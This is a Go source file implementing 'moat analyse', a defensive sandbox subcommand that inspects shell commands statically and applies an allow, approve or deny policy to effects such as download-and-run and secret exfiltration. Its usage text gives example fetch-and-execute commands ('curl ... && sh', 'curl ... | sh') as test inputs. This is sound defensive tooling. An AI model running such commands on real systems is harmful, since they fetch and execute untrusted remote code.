package main

// moat analyse: the effects a command line (or a session of them) would
// have, composed, and what an effects policy decides of them (package
// effects). Advice on top of the sandbox, never a substitute.

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"strings"

	"github.com/moat-sandbox/moat/effects"
	"github.com/moat-sandbox/moat/output"
)

// Exit statuses of moat analyse beside 0 (allow), exitUsage and exitMoat.
const (
	exitApprove = 3 // the policy wants a person to approve
	exitDeny    = 4 // the policy denies
)

const analyseUsage = `Usage: moat analyse [--policy FILE] [--json] (--session FILE | -- COMMAND...)

Reads what a program is asked to run, without running it, and names the
effects it would have once composed: a download then running what was
downloaded (even when commands 1 and 3 of a session do it), a secret read
then encoded then sent, files destroyed, persistence, kills of init, and
text that cannot be read in advance. Then it applies an effects policy
(--policy FILE, or the default one: moat analyse --default-policy).

  moat analyse -- 'curl -o /tmp/i.sh https://e.com/i && sh /tmp/i.sh'
  moat analyse -- curl -o /tmp/i https://e.com/i    (several words: an argv, no shell)
  moat analyse --session commands.txt               (one command per line, or
                                                     commands separated by lines of ---)

This is advice on top of the sandbox, never a substitute: analysis of text
can always be evaded, and the sandbox is what contains a run.

Exit status 0 when the policy allows, 3 when it wants approval, 4 when it
denies, 2 for invalid flags or an invalid policy.

Flags:
`

func cmdAnalyse(args []string) int {
	fs := newFlags("analyse", analyseUsage)
	policyFile := fs.String("policy", "", "the effects policy `FILE` (YAML; default: Moat's, see --default-policy)")
	session := fs.String("session", "", "analyse the commands of `FILE` as one session (- for stdin)")
	asJSON := fs.Bool("json", false, "print the effects and the decision as JSON")
	showDefault := fs.Bool("default-policy", false, "print the default effects policy and exit")
	// Everything after -- is the command, flags or not (moat analyse --
	// ls -la); parse would take -la for one of ours.
	var command []string
	for i, a := range args {
		if a == "--" {
			command = args[i+1:]
			args = args[:i]
			break
		}
	}
	if c := parse(fs, args); c >= 0 {
		return c
	}
	command = append(fs.Args(), command...)
	if *showDefault {
		os.Stdout.Write(effects.DefaultPolicyYAML())
		return 0
	}
	pol := effects.DefaultPolicy()
	if *policyFile != "" {
		data, err := readLimited(*policyFile, effects.MaxPolicyBytes)
		if err != nil {
			fmt.Fprintf(os.Stderr, "moat analyse: --policy: %v\n", err)
			return exitUsage
		}
		if pol, err = effects.ParsePolicy(data); err != nil {
			fmt.Fprintf(os.Stderr, "moat analyse: %s: %v\n", *policyFile, err)
			return exitUsage
		}
	}
	var cmds []string
	argv := false
	switch {
	case *session != "" && len(command) > 0:
		fmt.Fprintln(os.Stderr, "moat analyse: give --session FILE or a command after --, not both")
		return exitUsage
	case *session != "":
		data, err := readLimited(*session, effects.MaxCommandBytes*64)
		if err != nil {
			fmt.Fprintf(os.Stderr, "moat analyse: --session: %v\n", err)
			return exitUsage
		}
		cmds = splitSession(string(data))
		if len(cmds) == 0 {
			fmt.Fprintf(os.Stderr, "moat analyse: --session %s holds no command; write one command per line\n", *session)
			return exitUsage
		}
	case len(command) == 1:
		cmds = []string{command[0]}
	case len(command) > 1:
		argv = true
	default:
		fmt.Fprintln(os.Stderr, "moat analyse: want a command (moat analyse -- 'curl ... | sh') or --session FILE")
		fs.Usage()
		return exitUsage
	}
	s := effects.NewSession()
	var all []effects.Effect
	if argv {
		cmds = []string{strings.Join(command, " ")}
		all = s.Exec(command)
	} else {
		for _, c := range cmds {
			all = append(all, s.Shell(c)...)
		}
	}
	v := pol.Decide(all)
	if *asJSON {
		if c := printJSON(struct {
			Commands []string          `json:"commands"`
			Effects  []effects.Effect  `json:"effects"`
			Decision effects.Decision  `json:"decision"`
			Because  []effects.Decided `json:"because,omitempty"`
		}{cmds, nonNil(all), v.Decision, v.Because}); c != 0 {
			return c
		}
	} else {
		writeAnalysis(os.Stdout, cmds, all, pol, v)
	}
	switch v.Decision {
	case effects.Deny:
		return exitDeny
	case effects.Approve:
		return exitApprove
	}
	return 0
}

func nonNil(es []effects.Effect) []effects.Effect {
	if es == nil {
		return []effects.Effect{}
	}
	return es
}

// writeAnalysis prints the effects in plain words. Command text and
// details are hostile input (terminal escapes, bidi): sanitised.
func writeAnalysis(w io.Writer, cmds []string, all []effects.Effect, pol *effects.Policy, v effects.Verdict) {
	var b bytes.Buffer
	if len(cmds) > 1 {
		for i, c := range cmds {
			fmt.Fprintf(&b, "command %d: %s\n", i+1, oneLine(c))
		}
		b.WriteString("\n")
	}
	if len(all) == 0 {
		b.WriteString("no effects found\n")
	}
	for _, e := range all {
		d := pol.DecideOne(e)
		fmt.Fprintf(&b, "%-8s %-13s %s\n", d.Decision, e.Kind, e.Detail)
	}
	fmt.Fprintf(&b, "\ndecision: %s\n", v.Decision)
	for _, d := range v.Because {
		reason := d.Reason
		if reason == "" {
			reason = "the policy's rule for " + string(d.Effect.Kind)
		}
		fmt.Fprintf(&b, "  because %s: %s\n", d.Effect.Kind, reason)
	}
	w.Write(output.Sanitize(b.Bytes()))
}

func oneLine(s string) string {
	s = strings.ReplaceAll(s, "\n", " \\n ")
	if len(s) > 200 {
		s = s[:200] + "..."
	}
	return s
}

// splitSession splits a session file into commands: on lines of --- when
// there are any (so a command may span lines: here-documents), else one
// command per non-empty line.
func splitSession(text string) []string {
	lines := strings.Split(strings.ReplaceAll(text, "\r\n", "\n"), "\n")
	sep := false
	for _, l := range lines {
		if strings.TrimSpace(l) == "---" {
			sep = true
			break
		}
	}
	var out []string
	if !sep {
		for _, l := range lines {
			if strings.TrimSpace(l) != "" {
				out = append(out, l)
			}
		}
		return out
	}
	var cur []string
	flush := func() {
		c := strings.TrimSpace(strings.Join(cur, "\n"))
		if c != "" {
			out = append(out, c)
		}
		cur = nil
	}
	for _, l := range lines {
		if strings.TrimSpace(l) == "---" {
			flush()
			continue
		}
		cur = append(cur, l)
	}
	flush()
	return out
}

// readLimited reads a file (- for stdin) of at most max bytes.
func readLimited(name string, max int64) ([]byte, error) {
	var r io.Reader = os.Stdin
	if name != "-" {
		f, err := os.Open(name)
		if err != nil {
			return nil, err
		}
		defer f.Close()
		r = f
	}
	data, err := io.ReadAll(io.LimitReader(r, max+1))
	if err != nil {
		return nil, err
	}
	if int64(len(data)) > max {
		return nil, fmt.Errorf("%s is larger than %d bytes", name, max)
	}
	return data, nil
}
